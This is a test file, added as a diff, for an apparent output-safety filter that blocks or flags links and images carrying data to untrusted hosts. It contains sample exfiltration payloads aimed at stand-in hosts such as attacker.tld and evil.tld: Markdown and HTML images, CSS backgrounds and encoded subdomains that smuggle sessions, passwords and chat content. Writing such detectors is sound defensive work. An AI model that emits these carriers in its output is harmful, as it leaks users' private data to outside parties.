@@ -1,0 +1,78 @@
+// output_safety: links and images that carry data to hosts the operator does not trust. Images
+// (and frames, CSS backgrounds) load without a click: data in them blocks. Links with data are
+// reviewed. Trusted domains (operator option or pack settings) are exempt; code is inert.
+
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { shippedSnapshot } from '../../support/checks.js';
+import { check, describe, ofCategory, spanText } from './helpers.js';
+
+const test = suite('output_safety: exfiltration links');
+const b64 = (s: string): string => Buffer.from(s).toString('base64');
+
+test('a Markdown image with base64 data in the query blocks, span = the URL', async () => {
+  const url = `https://collector.tld/p.png?d=${b64('user asked about the merger')}`;
+  const text = `Here is the summary. ![loading](${url})`;
+  const r = await check(text);
+  assert.equal(r.verdict, 'block', describe(r));
+  const f = ofCategory(r, 'exfiltration_link')[0];
+  assert.ok(f, describe(r));
+  assert.equal(spanText(text, f), url);
+  assert.equal(f.rule_id, 'output-safety-core/markdown-image-with-data');
+  assert.equal(f.severity, 'high');
+});
+
+test('obfuscated carriers: protocol-relative, subdomain, path, reference-style, HTML, CSS, nested URL', async () => {
+  const cases = [
+    `![s](//stats.tld/s.png?session=${'Zk9xW2pL8rT4vB6nM1cD3eF5gH7jK9aQ'})`,
+    `![chart](https://${Buffer.from('session=abc123').toString('base64url')}.attacker.tld/c.png)`,
+    `![a](https://${Buffer.from('secret=hunter2').toString('hex')}.attacker.tld/a.png)`,
+    `![x](https://img.tld/i/${Buffer.from('please wire 50k to account 123').toString('base64url')}.png)`,
+    `Result:\n\n![result][1]\n\n[1]: https://img.tld/r.png?data=${b64('password=Hunter2!')}`,
+    `<IMG SRC="HTTPS://IMG.TLD/A.PNG?D=${b64('api key is 12345 secret')}">`,
+    `<div style="background-image:url('https://img.tld/bg.png?x=${b64('the user email is ann@corp.io')}')">Report</div>`,
+    `![build](https://img.shields.io/endpoint?url=https://evil.tld/b.json?d=${b64('chat history: merger talks')})`,
+    `![](https://img.tld/e.png?text=Customer+Jane+Roe+owes+4200+dollars+since+March)`,
+  ];
+  for (const text of cases) {
+    const r = await check(text);
+    assert.equal(r.verdict, 'block', `${text}\n→ ${describe(r)}`);
+    assert.ok(ofCategory(r, 'exfiltration_link').length > 0, text);
+  }
+});
+
+test('a link with data is reviewed, not blocked', async () => {
+  const text = `Open the [report](https://reports.tld/r?d=${b64('salary table: alice 120k, bob 95k')}).`;
+  const r = await check(text);
+  assert.equal(r.verdict, 'review', describe(r));
+  assert.equal(ofCategory(r, 'exfiltration_link')[0]?.severity, 'medium');
+});
+
+test('ordinary links and images are allowed', async () => {
+  for (const text of [
+    '![Architecture](./docs/img/architecture.png)',
+    '[![Build](https://img.shields.io/github/actions/workflow/status/acme/app/ci.yml?branch=main)](https://github.com/acme/app/actions)',
+    '![Mountains](https://images.unsplash.com/photo-1519681393784-d120267933ba?ixlib=rb-1.2.1&ixid=eyJhcHBfaWQiOjEyMDd9&w=1950&q=80)',
+    'See https://www.google.com/search?q=python+regex+lookbehind+examples and https://www.youtube.com/watch?v=8aGhZQkoFbQ',
+    '![Team](https://static.acme-corp.tld/uploads/2023/05/a8f5f167f44f4964e6c998dee827110c.jpg?w=800&h=600)',
+    'Read https://engineering.acme-corp.tld/2023/05/12/how-we-scaled-postgres-to-10k-writes',
+    '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
+    '```md\n![x](https://img.tld/p.png?d=c2Vzc2lvbj1hYmMxMjM0NTY3ODkw)\n```',
+  ]) {
+    const r = await check(text);
+    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
+  }
+});
+
+test('operator trusted domains exempt their images; other hosts still block', async () => {
+  const snapshot = await shippedSnapshot({ trustedDomains: ['acme-analytics.tld'] });
+  const data = b64('user asked about the merger');
+  const trusted = await check(`![p](https://px.acme-analytics.tld/p.png?d=${data})`, snapshot);
+  assert.equal(trusted.verdict, 'allow', describe(trusted));
+  const other = await check(`![p](https://px.acme-analytics.tld.evil.tld/p.png?d=${data})`, snapshot);
+  assert.equal(other.verdict, 'block', describe(other));
+  const shipped = await check(`![p](https://px.acme-analytics.tld/p.png?d=${data})`);
+  assert.equal(shipped.verdict, 'block', 'without the option the same image blocks');
+});
+
+test.run();
